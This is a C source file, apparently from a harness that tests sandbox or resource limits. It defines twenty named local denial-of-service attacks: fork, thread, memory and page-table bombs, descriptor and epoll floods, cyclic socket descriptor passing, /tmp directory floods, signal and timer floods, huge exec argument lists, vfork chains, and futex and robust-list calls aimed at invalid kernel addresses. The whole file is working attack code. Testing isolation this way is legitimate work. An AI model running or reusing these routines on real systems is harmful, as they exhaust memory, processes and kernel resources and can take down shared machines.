/* resources.c NAME: takes all that there is of one thing and never gives it back. */
#include "attack.h"

#include <linux/futex.h>
#include <pthread.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/timerfd.h>
#include <sys/uio.h>

static void fork_bomb(void)
{
	for (;;)
		(void)!fork();
}

static void *sleep_for_ever(void *unused)
{
	for (;;)
		pause();
	return unused;
}

static void thread_bomb(void)
{
	pthread_t thread;
	for (int failed = 0; failed < 100;)
		failed += pthread_create(&thread, NULL, sleep_for_ever, NULL) != 0;
}

static void memory_bomb(void)
{
	for (;;) {
		char *at = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (at != MAP_FAILED)
			memset(at, 1, 1 << 20);
	}
}

static void area_bomb(void)
{
	for (int i = 0; i < 200000; i++)
		mmap(NULL, i & 1 ? 4096 : 1ul << 30, i & 1 ? PROT_NONE : PROT_READ,
		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
}

static void table_bomb(void)
{
	char *at = mmap(NULL, 1ul << 45, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	for (uint64_t i = 0; at != MAP_FAILED && i < 1ul << 45; i += 1ul << 30)
		(void)*(volatile char *)(at + i);
}

/* Calls that walk a range: the range is all there is of addresses. */
static void long_walks(void)
{
	size_t size = 1ul << 46;
	char *at = mmap(NULL, size, PROT_READ,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	for (int advice = 0; advice < 26; advice++)
		madvise(at, size, advice);
	mlock(at, size);
	msync(at, size, MS_SYNC);
	mprotect(at, size, PROT_NONE);
	mremap(at, size, size / 2, MREMAP_MAYMOVE);
	(void)!fork();
	munmap(at, size);
}

/* One page a table is enough: the answers of mincore go round in 16 MiB of a file. */
static void long_vector(void)
{
	size_t window = 16 << 20, size = 1ul << 43;
	int fd = memfd_create("window", 0);
	char *out = mmap(NULL, 1ul << 36, PROT_NONE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	char *at = mmap(NULL, size, PROT_NONE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	(void)!ftruncate(fd, (off_t)window);
	for (size_t i = 0; i < 256; i++)
		mmap(out + i * window, window, PROT_READ | PROT_WRITE,
		     MAP_SHARED | MAP_FIXED, fd, 0);
	for (;;)
		mincore(at, size, (unsigned char *)out);
}

/* Files of /proc that have a part for each area, which two threads read at once. */
static void long_lists(void)
{
	static char bytes[65536];
	size_t size = 8192 * 8192;
	char *at = mmap(NULL, size, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	for (size_t i = 0; i < size; i += 8192)
		mprotect(at + i, 4096, PROT_READ | PROT_WRITE);
	int smaps = open("/proc/self/smaps", O_RDONLY);
	pid_t pid = fork();
	for (int i = 0;; i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/%d/%s", pid ? pid : getppid(),
			 i % 2 ? "smaps_rollup" : "maps");
		int fd = open(path, O_RDONLY);
		while (read(fd, bytes, sizeof(bytes)) > 0)
			continue;
		close(fd);
		while (read(smaps, bytes, sizeof(bytes)) > 0)
			continue;
		lseek(smaps, 0, SEEK_SET);
	}
}

static void long_copies(void)
{
	size_t window = 8 << 20;
	int fd = memfd_create("window", 0), zero = open("/dev/zero", O_RDONLY), i;
	char *out = mmap(NULL, 1ul << 31, PROT_NONE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	struct iovec vector[256];
	(void)!ftruncate(fd, (off_t)window);
	for (i = 0; i < 256; i++) {
		mmap(out + (size_t)i * window, window, PROT_READ | PROT_WRITE,
		     MAP_SHARED | MAP_FIXED, fd, 0);
		vector[i] = (struct iovec){out + (size_t)i * window, window};
	}
	for (;;) {
		(void)!readv(zero, vector, 256);
		(void)!read(open("/dev/urandom", O_RDONLY), out, 1ul << 31);
		syscall(SYS_getrandom, out, 1ul << 31, 0);
		(void)!preadv(fd, vector, 256, 0);
		process_vm_readv(getpid(), vector, 256, vector, 256, 0);
	}
}

static void descriptor_bomb(void)
{
	int two[2];
	char bytes[65536] = {0};
	for (int i = 0; i < 100000; i++) {
		if (i % 3 == 0 && pipe2(two, O_NONBLOCK) == 0)
			(void)!write(two[1], bytes, sizeof(bytes));
		else if (i % 3 == 1)
			timerfd_create(CLOCK_MONOTONIC, 0);
		else if (inotify_init1(IN_NONBLOCK) < 0 && errno == EMFILE)
			break;
	}
	while (fork() > 0) /* each with a table of its own */
		;
	pause();
}

static void epoll_bomb(void)
{
	int fds[64], two[2];
	(void)!pipe(two);
	for (int i = 0; i < 64; i++)
		fds[i] = epoll_create1(0);
	for (int i = 0; i < 64; i++)
		for (int j = 0; j < 64; j++) {
			struct epoll_event e = {.events = EPOLLIN};
			epoll_ctl(fds[i], EPOLL_CTL_ADD, j == i ? two[0] : fds[j], &e);
		}
	for (int i = 0; i < 64; i++) {
		struct epoll_event e[4];
		(void)!write(two[1], "x", 1);
		epoll_wait(fds[i], e, 4, 1);
		if (i % 2)
			close(fds[i]);
	}
}

/* Sockets that hold each other in flight: nobody else can reach them. */
static void descriptors_in_flight(void)
{
	for (int round = 0; round < 2000; round++) {
		int two[2];
		char control[CMSG_SPACE(2 * sizeof(int))] = {0}, byte = 0;
		struct iovec vector = {&byte, 1};
		struct msghdr message = {.msg_iov = &vector,
					 .msg_iovlen = 1,
					 .msg_control = control,
					 .msg_controllen = sizeof(control)};
		struct cmsghdr *head = CMSG_FIRSTHDR(&message);
		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, two) < 0)
			break;
		head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS;
		head->cmsg_len = CMSG_LEN(sizeof(two));
		memcpy(CMSG_DATA(head), two, sizeof(two));
		for (int i = 0; i < 20; i++)
			sendmsg(two[i & 1], &message, 0);
		close(two[0]), close(two[1]);
	}
}

static void tree_bomb(void)
{
	char name[256];
	memset(name, 'n', 255), name[255] = 0;
	(void)!chdir("/tmp");
	for (int i = 0; i < 20000 && mkdir(name, 0700) == 0 && chdir(name) == 0; i++) {
		(void)!symlink(name, "s");
		(void)!mkfifo("f", 0600);
	}
	for (int i = 0; i < 200000; i++) {
		snprintf(name, sizeof(name), "/tmp/file-%d", i);
		int fd = open(name, O_WRONLY | O_CREAT, 0600);
		if (fd < 0 || write(fd, name, 1) != 1)
			break;
		close(fd);
	}
}

static void signal_bomb(void)
{
	sigset_t all;
	union sigval value = {.sival_int = 1};
	timer_t timer;
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	for (int i = 0; i < 300000; i++)
		if (sigqueue(getpid(), SIGRTMIN + i % 30, value) < 0)
			break;
	for (int i = 0; i < 100000; i++) {
		struct itimerspec soon = {{0, 1}, {0, 1}};
		if (timer_create(CLOCK_MONOTONIC, NULL, &timer) < 0)
			break;
		timer_settime(timer, 0, &soon, NULL);
	}
	sigprocmask(SIG_UNBLOCK, &all, NULL);
	pause();
}

static void argument_bomb(void)
{
	size_t size = 100000;
	char **argv = calloc(1 << 20, sizeof(*argv)), *word = malloc(size + 1);
	memset(word, 'a', size), word[size] = 0;
	for (size_t n = 1; n < 1 << 20; n *= 2) {
		for (size_t i = 0; i < n; i++)
			argv[i] = word;
		if (fork() == 0)
			execv("/proc/self/exe", argv);
	}
}

static void vfork_chain(void)
{
	volatile int depth = 0;
	while (depth < 100000 && vfork() == 0)
		depth++;
	pause();
}

static void orphan_storm(void)
{
	for (int i = 0; i < 20000; i++)
		if (fork() == 0) {
			if (fork() == 0) {
				setsid();
				usleep(1000);
			}
			_exit(0);
		}
}

static void futex_lies(void)
{
	struct robust_list_head head;
	uint32_t *word = mmap(NULL, 8192, PROT_READ | PROT_WRITE,
			      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	static const uint64_t bad[] = {
		0, 1, 4, KERNEL_BASE, 0x7fffffffeffcull, UINT64_MAX & ~3ull};
	for (int op = 0; op < 16; op++)
		for (int i = 0; i < 36; i++)
			syscall(SYS_futex, i < 6 ? (uint64_t)word : bad[i % 6], op, 1, 1,
				i % 2 ? bad[i / 6] : (uint64_t)word + 4, 0);
	for (int i = 0; i < 8; i++)
		if (fork() == 0) {
			head.list.next = i == 0   ? &head.list
					 : i == 1 ? (void *)bad[3]
						  : (void *)&head;
			head.futex_offset = (long)bad[i % 6];
			head.list_op_pending =
				(void *)(i & 1 ? bad[i % 6] : (uint64_t)word);
			struct robust_list ring[2] = {{&ring[1]}, {&ring[0]}};
			if (i >= 4)
				head.list.next = &ring[0];
			syscall(SYS_set_robust_list, &head, sizeof(head));
			syscall(SYS_set_tid_address, bad[i % 6]);
			*word = (uint32_t)gettid();
			_exit(0);
		}
	/* Waiters on a page of a packed file, which every job maps. */
	int fd = open("/proc/self/exe", O_RDONLY);
	uint32_t *packed = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (fork() == 0)
		syscall(SYS_futex, packed, FUTEX_WAIT, *packed, NULL, NULL, 0);
	usleep(10000);
	syscall(SYS_futex, packed, FUTEX_REQUEUE, 0, 100, word, 0);
}

static void output_flood(void)
{
	static char bytes[1 << 16];
	for (;;)
		if (write(1, bytes, sizeof(bytes)) < 0 &&
		    write(2, bytes, sizeof(bytes)) < 0)
			break;
}

static void deaf(void)
{
	for (int i = 1; i < 65; i++)
		signal(i, SIG_IGN);
	for (;;)
		;
}

int main(int argc, char **argv)
{
	static const struct attack attacks[] = {
		{"fork_bomb", fork_bomb},
		{"thread_bomb", thread_bomb},
		{"memory_bomb", memory_bomb},
		{"area_bomb", area_bomb},
		{"table_bomb", table_bomb},
		{"long_walks", long_walks},
		{"long_vector", long_vector},
		{"long_lists", long_lists},
		{"long_copies", long_copies},
		{"descriptor_bomb", descriptor_bomb},
		{"epoll_bomb", epoll_bomb},
		{"descriptors_in_flight", descriptors_in_flight},
		{"tree_bomb", tree_bomb},
		{"signal_bomb", signal_bomb},
		{"argument_bomb", argument_bomb},
		{"vfork_chain", vfork_chain},
		{"orphan_storm", orphan_storm},
		{"futex_lies", futex_lies},
		{"output_flood", output_flood},
		{"deaf", deaf},
	};
	if (argc > 2)
		return 0;
	return attack_main(attacks, sizeof(attacks) / sizeof(*attacks), 3, argc, argv);
}
